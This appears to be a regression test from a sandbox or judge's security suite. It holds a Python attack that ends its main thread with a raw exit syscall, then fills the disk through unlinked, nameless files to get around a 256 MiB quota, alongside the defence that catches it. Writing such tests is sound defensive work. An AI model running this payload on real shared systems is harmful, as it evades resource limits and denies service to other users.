"""Ends its main thread, which then shows none of the open files, and fills the disk with those of another -> its process ends, the call is lost."""

QUESTIONS = {"1.2"}
SAYS = "its files took more than 256 MiB"
STOPPED_BY = "session: open files without a name are counted"
ATTACK = """
import ctypes, os, threading, time
def fill():
    time.sleep(0.5)
    for number in range(10):
        file = os.open(f"file-{number}", os.O_RDWR | os.O_CREAT)
        os.unlink(f"file-{number}")
        os.write(file, bytes(60 << 20))
        time.sleep(0.1)
    time.sleep(0.5)
    os.write(1, b"PWNED")
    time.sleep(60)
threading.Thread(target=fill).start()
ctypes.CDLL(None).syscall(60 if os.uname().machine == "x86_64" else 93, 0)
"""
